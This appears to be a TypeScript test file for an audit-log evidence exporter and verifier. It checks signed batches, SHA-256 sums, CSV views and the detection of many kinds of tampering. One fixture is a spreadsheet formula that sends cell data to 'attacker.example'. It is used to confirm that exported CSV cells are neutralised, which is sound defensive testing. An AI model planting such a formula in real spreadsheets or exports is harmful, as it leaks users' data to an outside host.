import { createHash } from 'node:crypto';
import {
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { parseCheckpoint } from '../../src/audit/checkpoints/checkpoint.ts';
import { startCheckpoints } from '../../src/audit/checkpoints/checkpointer.ts';
import { parseCsv, textOfCell } from '../../src/audit/evidence/csv.ts';
import { verifyEvidence } from '../../src/audit/evidence/verify-folder.ts';
import { type Evidence, writeEvidence } from '../../src/audit/evidence/write-folder.ts';
import { appendCall } from '../../src/audit/shipping/batch.ts';
import { makeStream } from './stream-maker.ts';
import { type AuditDatabase, createAuditDatabase, intent, makeSigner, now, outcome } from './support.ts';

// Many files, each on disk before it counts.
vi.setConfig({ testTimeout: 120_000 });

let database: AuditDatabase;
let evidence: Evidence;
const root = mkdtempSync(join(tmpdir(), 'cs-evidence-'));
const folder = join(root, 'period');
const signer = makeSigner();
const keys = { keys: [signer.publicJwk] };
const HOUR = 3_600_000_000n;
const start = now();
const hour = (n: number, more = 0n) => start + BigInt(n) * HOUR + more;
const period = { from: new Date(Number(hour(2) / 1000n)), to: new Date(Number(hour(3) / 1000n)) };
const streams = {
  through: makeStream(signer),
  before: makeStream(signer),
  after: makeStream(signer),
  quiet: makeStream(signer),
};
const FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")';

beforeAll(async () => {
  database = await createAuditDatabase();
  const writer = new pg.Client(database.writerUrl);
  await writer.connect();
  let no = 0;
  for (const [name, stream] of Object.entries(streams)) {
    await writer.query(appendCall('audit', stream.start()));
    const hours = { through: [0, 1, 2, 2, 3, 4, 5], before: [0, 1], after: [3, 4, 5], quiet: [0, 1, 4, 5] }[
      name
    ];
    for (const n of hours ?? []) {
      no += 1;
      const sql = `SELECT '${name} ${n}'`;
      const [asked, done] = [
        intent(no, { at: hour(n, 5n), sql, reasons: ['a "b"', ''] }),
        outcome(no, { at: hour(n, 9n) }),
      ];
      const strange = intent(no + 1000, { at: hour(n, 10n), sql: FORMULA, parameters: ['-1', null, "'x"] });
      await writer.query(appendCall('audit', stream.batch([asked, done, strange])));
    }
  }
  await writer.end();
  const checkpoints = await startCheckpoints({
    ...{ url: database.writerUrl, schema: 'audit', origin: 'countersign/test', signer: () => signer },
    ...{
      publicKeys: () => [{ x: String(signer.publicJwk['x']) }],
      everyMs: 3_600_000,
      anchors: [],
      log: { info: () => {}, warn: () => {}, error: () => {} },
    },
  });
  await checkpoints.take();
  await checkpoints.close();
  evidence = await writeEvidence({
    url: database.auditorUrl,
    schema: 'audit',
    period,
    out: folder,
    keys,
    version: '1',
  });
});
afterAll(async () => {
  await database.dropAll();
  rmSync(root, { recursive: true, force: true });
});

const read = (file: string, directory = folder) => readFileSync(join(directory, file), 'utf8');
const lines = (file: string, directory = folder) => read(file, directory).split('\n').slice(0, -1);

describe('the folder', () => {
  test('says that all is whole, and is found whole by itself', async () => {
    expect(evidence.verification).toMatchObject({ whole: true, findings: [] });
    expect(await verifyEvidence({ directory: folder, keys })).toMatchObject({
      ...{ whole: true, altered: false, findings: [], streams: 4, keysFromLog: false, period },
    });
    const sql = parseCsv(read('verification/sql.csv'));
    expect(sql.length).toBeGreaterThan(8);
    expect(sql.slice(1).filter((row) => row[3] !== 't')).toEqual([]);
  });

  test('has entries of the period, and of each stream a batch on either side', () => {
    const hoursOf = (stream: string) => [
      ...new Set(
        lines('log/entries.jsonl')
          .map((line) => JSON.parse(line))
          .filter((entry) => entry.stream === stream && entry.kind === 'intent')
          .map((entry) => Number((BigInt(entry.at) - start) / HOUR)),
      ),
    ];
    expect(hoursOf(streams.through.stream)).toEqual([1, 2, 3]);
    expect(hoursOf(streams.before.stream)).toEqual([1]);
    expect(hoursOf(streams.after.stream)).toEqual([3]);
    expect(hoursOf(streams.quiet.stream)).toEqual([1, 4]);
    expect(lines('log/batches.jsonl')).toHaveLength(4 + 16);
  });

  test('has statements of the period alone, and no cell that a spreadsheet would run', () => {
    const [head = [], ...rows] = parseCsv(read('views/statements.csv'));
    const cells = (name: string) => rows.map((row) => row[head.indexOf(name)]);
    expect(cells('sql').map((sql) => textOfCell(sql ?? ''))).toEqual([
      "SELECT 'through 2'",
      FORMULA,
      "SELECT 'through 2'",
      FORMULA,
    ]);
    expect(cells('sql').filter((sql) => /^[=+\-@]/.test(sql ?? ''))).toEqual([]);
    expect(cells('reasons')[0]).toBe('{"a \\"b\\"",""}');
    expect(cells('outcome')).toEqual(['executed', null, 'executed', null]);
    expect(read('views/statements.csv')).toContain('\r\n');
  });

  test('has sums that sha256sum reads, the SQL of each file, row counts, and is for its owner only', () => {
    for (const line of lines('SHA256SUMS')) {
      const [sum = '', file = ''] = line.split('  ');
      expect(
        createHash('sha256')
          .update(readFileSync(join(folder, file)))
          .digest('hex'),
      ).toBe(sum);
    }
    const all = readdirSync(folder, { recursive: true, encoding: 'utf8' }).filter((file) =>
      statSync(join(folder, file)).isFile(),
    );
    expect(lines('SHA256SUMS')).toHaveLength(all.length - 1);
    expect(evidence.sumsSha256).toBe(createHash('sha256').update(read('SHA256SUMS')).digest('hex'));
    const manifest = JSON.parse(read('manifest.json'));
    for (const { file, rows } of manifest.files.filter((one: { file: string }) => one.file.endsWith('.csv')))
      expect(parseCsv(read(file)).length - 1).toBe(rows);
    expect(read('views/statements.sql')).toContain(`at >= '${period.from.toISOString()}'`);
    const mustBeEmpty = { executed_without_approval: 0, segregation_of_duties: 0, request_differences: 0 };
    expect(manifest.must_be_empty).toEqual(mustBeEmpty);
    expect(statSync(folder).mode & 0o077).toBe(0);
    expect(statSync(join(folder, 'log/entries.jsonl')).mode & 0o077).toBe(0);
    expect(read('README.md')).toMatch(/^\| views\/schema_changes\.csv \| \d+ \| [^|]*CC8\.1/m);
    expect(readdirSync(root)).toEqual(['period']);
  });

  test('is never written over something, and nothing is left of one that fails', async () => {
    const options = { url: database.auditorUrl, schema: 'audit', period, keys, version: '1' };
    await expect(writeEvidence({ ...options, out: folder })).rejects.toMatchObject({
      code: 'evidence_exists',
    });
    symlinkSync('/nowhere', join(root, 'link'));
    await expect(writeEvidence({ ...options, out: join(root, 'link') })).rejects.toMatchObject({
      code: 'evidence_exists',
    });
    rmSync(join(root, 'link'));
    // The writer may not read.
    await expect(
      writeEvidence({ ...options, url: database.writerUrl, out: join(root, 'x') }),
    ).rejects.toThrow(/permission denied/);
    expect(readdirSync(root)).toEqual(['period']);
  });
});

/** A copy of the folder, changed, with sums that fit: whoever changes files can do that. */
function tampered(name: string, change: (directory: string) => void): string {
  const directory = join(root, `tampered-${name}`);
  cpSync(folder, directory, { recursive: true });
  change(directory);
  const sums = lines('SHA256SUMS', directory)
    .map((line) => line.slice(66))
    .filter((file) => existsSync(join(directory, file)))
    .map(
      (file) =>
        `${createHash('sha256')
          .update(readFileSync(join(directory, file)))
          .digest('hex')}  ${file}\n`,
    );
  writeFileSync(join(directory, 'SHA256SUMS'), sums.join(''));
  return directory;
}

type Line = Record<string, unknown>;
const edit = (directory: string, file: string, change: (lines: Line[]) => Line[] | undefined) => {
  const before = lines(file, directory).map((line) => JSON.parse(line) as Line);
  const after = change(before) ?? before;
  writeFileSync(join(directory, file), after.map((line) => `${JSON.stringify(line)}\n`).join(''));
};
const ENTRIES = 'log/entries.jsonl';
const BATCHES = 'log/batches.jsonl';
const CSV = 'views/statements.csv';
const isOf = (stream: string) => (line: Line) => line['stream'] === stream;

/** The check that must find it, and where. */
const TAMPERING: readonly (readonly [string, string, RegExp, (directory: string) => void])[] = [
  [
    'an agent',
    'row_hash',
    /entries/,
    (d) => edit(d, ENTRIES, (all) => void Object.assign(all[5] ?? {}, { agent: 'x' })),
  ],
  [
    'a text',
    'content',
    /entries/,
    (d) =>
      edit(
        d,
        ENTRIES,
        (all) => void Object.assign(all.find(({ sql }) => sql === FORMULA) ?? {}, { sql: 'SELECT 1' }),
      ),
  ],
  [
    'a row taken out',
    'gap',
    /entries|batches/,
    (d) => edit(d, ENTRIES, (all) => all.filter((_, i) => i !== 6)),
  ],
  [
    'two rows swapped',
    'gap',
    /entries/,
    (d) => edit(d, ENTRIES, ([a, b, ...rest]) => [b ?? {}, a ?? {}, ...rest]),
  ],
  [
    'a signature',
    'batch_signature',
    /entries|batches/,
    (d) => edit(d, BATCHES, (all) => void Object.assign(all[1] ?? {}, { signature: '00'.repeat(64) })),
  ],
  [
    'a batch taken out',
    'batch',
    /batches/,
    (d) =>
      edit(d, BATCHES, (all) => {
        const gone = all.filter(isOf(streams.through.stream))[1];
        return all.filter((one) => one !== gone);
      }),
  ],
  [
    'the last batch of a stream taken out with its leaf',
    'head',
    /./,
    (d) => {
      edit(d, BATCHES, (all) => all.filter((one, i) => all[i + 1]?.['stream'] === one['stream']));
    },
  ],
  [
    'a batch and its rows taken out',
    'batch',
    /batches/,
    (d) => {
      const gone = lines(BATCHES, d)
        .map((line) => JSON.parse(line))
        .filter(isOf(streams.through.stream))[4];
      edit(d, BATCHES, (all) => all.filter(({ leaf }) => leaf !== gone.leaf));
      edit(d, ENTRIES, (all) =>
        all.filter(
          (one) =>
            one['stream'] !== gone.stream ||
            BigInt(String(one['seq'])) < BigInt(gone.from_seq) ||
            BigInt(String(one['seq'])) > BigInt(gone.to_seq),
        ),
      );
    },
  ],
  [
    'the first batch of the period left out',
    'range',
    /entries/,
    (d) =>
      edit(d, ENTRIES, (all) =>
        all.filter(
          (one) =>
            one['stream'] !== streams.through.stream || BigInt(String(one['at'])) >= hour(2, 6n + HOUR / 2n),
        ),
      ),
  ],
  [
    'the end of the period left out',
    'range',
    /entries/,
    (d) =>
      edit(d, ENTRIES, (all) =>
        all.filter((one) => one['stream'] !== streams.through.stream || BigInt(String(one['at'])) < hour(2)),
      ),
  ],
  [
    'all of a stream left out',
    'range',
    /entries/,
    (d) => edit(d, ENTRIES, (all) => all.filter((one) => one['stream'] !== streams.through.stream)),
  ],
  [
    'a stream taken out whole',
    'tree',
    /leaves/,
    (d) => {
      for (const file of [ENTRIES, BATCHES, 'log/streams.jsonl'])
        edit(d, file, (all) => all.filter((one) => one['stream'] !== streams.through.stream));
    },
  ],
  [
    'a stream that is not registered',
    'head',
    /entries/,
    (d) => edit(d, ENTRIES, (all) => [...all, { ...all[0], stream: 'zzz' }]),
  ],
  [
    'a leaf',
    'tree',
    /batches/,
    (d) => edit(d, 'log/leaves.jsonl', (all) => void Object.assign(all[3] ?? {}, { hash: '00'.repeat(32) })),
  ],
  [
    'a leaf taken out',
    'tree',
    /leaves/,
    (d) => edit(d, 'log/leaves.jsonl', (all) => all.filter((_, i) => i !== 3)),
  ],
  [
    'leaves cut off',
    'checkpoint',
    /checkpoints/,
    (d) => {
      edit(d, 'log/leaves.jsonl', (all) => all.slice(0, -1));
      edit(d, BATCHES, (all) => all.map((one) => (one['leaf'] === '19' ? { ...one, leaf: null } : one)));
    },
  ],
  [
    'a checkpoint',
    'checkpoint',
    /checkpoints/,
    (d) =>
      edit(d, 'log/checkpoints.jsonl', (all) => void Object.assign(all[0] ?? {}, { root: '00'.repeat(32) })),
  ],
  [
    'an endorsement',
    'endorsement',
    /streams/,
    (d) =>
      edit(
        d,
        'log/streams.jsonl',
        (all) => void Object.assign(all[0] ?? {}, { endorsement: '00'.repeat(64) }),
      ),
  ],
  [
    'a statement taken out of the CSV',
    'view',
    /statements/,
    (d) =>
      writeFileSync(
        join(d, CSV),
        read(CSV, d)
          .split('\r\n')
          .filter((_, i) => i !== 2)
          .join('\r\n'),
      ),
  ],
  [
    'a statement more in the CSV',
    'view',
    /statements/,
    (d) => {
      const [head, first, ...rest] = read(CSV, d).split('\r\n');
      writeFileSync(join(d, CSV), [head, first, first, ...rest].join('\r\n'));
    },
  ],
  [
    'an agent in the CSV',
    'view',
    /statements/,
    (d) => writeFileSync(join(d, CSV), read(CSV, d).replace(',reporter,', ',other,')),
  ],
  [
    'an outcome in the CSV',
    'view',
    /statements/,
    (d) => writeFileSync(join(d, CSV), read(CSV, d).replace(',executed,', ',denied,')),
  ],
  [
    'a CSV that ends within quotes',
    'view',
    /statements/,
    (d) => writeFileSync(join(d, CSV), `${read(CSV, d)}"`),
  ],
  [
    'a line that is none',
    'file',
    /entries/,
    (d) => writeFileSync(join(d, ENTRIES), `${read(ENTRIES, d)}{"version":\n`),
  ],
  [
    'a number that is none',
    'file',
    /entries/,
    (d) => edit(d, ENTRIES, (all) => void Object.assign(all[2] ?? {}, { seq: '3x' })),
  ],
  ['a file more', 'file', /note/, (d) => writeFileSync(join(d, 'note.txt'), 'x')],
  ['a file less', 'file', /entries/, (d) => rmSync(join(d, ENTRIES))],
  [
    'a link in its place',
    'file',
    /entries/,
    (d) => {
      rmSync(join(d, ENTRIES));
      symlinkSync('/etc/hostname', join(d, ENTRIES));
    },
  ],
  ['a folder in a folder', 'file', /log\/more/, (d) => mkdirSync(join(d, 'log/more'))],
];

describe('what was changed in it', () => {
  test('a text of nothing but lines, put into the CSV, is read in one go', async () => {
    const directory = tampered('lines', (d) =>
      writeFileSync(join(d, CSV), read(CSV, d).replace(',reporter,', `,"${'\n'.repeat(1_000_000)}",`)),
    );
    const { findings } = await verifyEvidence({ directory, keys });
    expect(findings).toEqual([
      expect.objectContaining({
        check: 'view',
        file: CSV,
        line: 2,
        detail: 'agent is not what the entry says',
      }),
    ]);
  });

  test.each(TAMPERING)('%s: %s', async (name, check, file, change) => {
    const result = await verifyEvidence({ directory: tampered(name.replaceAll(' ', '-'), change), keys });
    expect(result.altered).toBe(true);
    expect(result.findings.map((one) => `${one.check} ${one.file}`)).toContainEqual(
      expect.stringMatching(new RegExp(`^${check} .*${file.source}`)),
    );
  });

  test('a CSV, or the SQL, without the sums: the file is named', async () => {
    const directory = tampered('unsummed', () => {});
    writeFileSync(join(directory, 'views/denials.sql'), 'SELECT 1');
    expect((await verifyEvidence({ directory, keys })).findings).toEqual([
      expect.objectContaining({ check: 'file', file: 'views/denials.sql', ok: false }),
    ]);
  });

  test('names the line and the row', async () => {
    const directory = tampered('line', (d) =>
      edit(d, ENTRIES, (all) => void Object.assign(all[4] ?? {}, { agent: 'x' })),
    );
    const { findings } = await verifyEvidence({ directory, keys });
    const entry = JSON.parse(lines(ENTRIES)[4] ?? '');
    expect(findings).toContainEqual(
      expect.objectContaining({
        check: 'row_hash',
        file: ENTRIES,
        line: 5,
        stream: entry.stream,
        seq: BigInt(entry.seq),
      }),
    );
  });

  test('all of it made anew by another installation: its keys are not those that were kept', async () => {
    const { findings } = await verifyEvidence({
      directory: folder,
      keys: { keys: [makeSigner().publicJwk] },
    });
    expect(new Set(findings.map(({ check }) => check))).toEqual(new Set(['endorsement', 'checkpoint']));
  });

  test('a checkpoint that was kept elsewhere must be covered', async () => {
    const note = read('checkpoint.txt');
    const checkpoint = parseCheckpoint(note) ?? undefined;
    expect((await verifyEvidence({ directory: folder, keys, checkpoint })).whole).toBe(true);
    const cut = tampered('cut', (d) => {
      edit(d, 'log/leaves.jsonl', (all) => all.slice(0, -1));
      edit(d, BATCHES, (all) => all.map((one) => (one['leaf'] === '19' ? { ...one, leaf: null } : one)));
      writeFileSync(join(d, 'log/checkpoints.jsonl'), '');
    });
    // Without the one that was kept it looks like a log that has no checkpoint yet.
    expect((await verifyEvidence({ directory: cut, keys })).whole).toBe(true);
    expect((await verifyEvidence({ directory: cut, keys, checkpoint })).findings).toEqual([
      expect.objectContaining({
        check: 'checkpoint',
        detail: 'cut off: the given checkpoint covers 20 batches, here are 19',
      }),
    ]);
  });

  test('a text that is gone is altered, also with an entry that accounts for it and is none of the log', async () => {
    const erase = (d: string): Line => {
      let erased: Line = {};
      edit(d, ENTRIES, (all) =>
        all.map((one) => {
          if (one['kind'] !== 'intent' || erased['stream'] !== undefined) return one;
          const { salt: _, sql: __, sql_sha256: ___, parameters: ____, ...rest } = one;
          erased = rest;
          return rest;
        }),
      );
      return erased;
    };
    const gone = await verifyEvidence({ directory: tampered('gone', (d) => void erase(d)), keys });
    expect(gone.findings).toEqual([expect.objectContaining({ check: 'content', file: ENTRIES, ok: false })]);
    const forged = tampered('forged', (d) => {
      const erased = erase(d);
      const detail = ['stream', erased['stream'], 'rows', erased['seq']];
      const entry = { ...erased, kind: 'redaction', stream: 'zzz', detail };
      writeFileSync(join(d, ENTRIES), `${read(ENTRIES, d)}${JSON.stringify(entry)}\n`);
    });
    const result = await verifyEvidence({ directory: forged, keys });
    expect(result.altered).toBe(true);
    expect(result.findings).toContainEqual(
      expect.objectContaining({ check: 'redaction', stream: 'zzz', ok: false }),
    );
  });

  test('no folder of this kind is an error', async () => {
    await expect(verifyEvidence({ directory: root, keys })).rejects.toMatchObject({ code: 'no_evidence' });
    const directory = tampered('form', (d) => writeFileSync(join(d, 'manifest.json'), '{"form":"other"}'));
    await expect(verifyEvidence({ directory, keys })).rejects.toMatchObject({ code: 'no_evidence' });
  });
});
